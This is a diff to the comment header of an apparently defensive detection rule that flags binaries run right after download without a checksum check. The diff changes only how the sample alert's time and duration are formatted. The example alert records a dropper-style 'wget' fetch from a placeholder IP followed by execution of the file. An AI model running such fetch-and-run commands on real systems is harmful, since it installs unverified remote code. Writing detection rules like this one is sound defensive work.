@@ -4,7 +4,7 @@
 // does not check a sum or signature between. What a dropper's script does, and what a careful person's does not.
 //
 //     $ sudo ringside run unchecked-download.js -o line
-//     time=2026-05-04T14:05:03.300511000Z level=medium rule=unchecked-download message="ada ran /tmp/updater 2.1s after wget -q http://198.51.100.23/updater"
+//     time=2026-05-04T14:05:03.300000000Z level=medium rule=unchecked-download message="ada ran /tmp/updater 2s100ms after wget -q http://198.51.100.23/updater"
 //
 // Known false positives: somebody who tries a tool out by hand. Build servers that fetch tools so are worth a checksum.
 // References: https://attack.mitre.org/techniques/T1105/ https://attack.mitre.org/techniques/T1222/002/
